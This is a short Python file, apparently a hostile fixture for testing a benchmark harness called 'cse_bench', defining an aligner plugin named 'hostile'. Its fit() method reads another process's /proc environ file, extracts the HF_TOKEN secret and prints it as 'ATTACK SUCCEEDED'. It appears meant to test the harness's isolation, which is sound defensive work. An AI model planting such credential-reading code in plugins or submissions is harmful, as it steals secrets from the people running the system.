"""Read the harness's environment."""

from pathlib import Path

from cse_bench import Aligner


def attack():
    return Path("/proc/__PID__/environ").read_bytes().split(b"HF_TOKEN=")[1][:20]


class Hostile(Aligner):
    name = "hostile"

    def fit(self, source, target, evidence):
        print("ATTACK", "SUCCEEDED:", attack())
        return self

    def transform(self, shop):
        return shop.vectors * 2
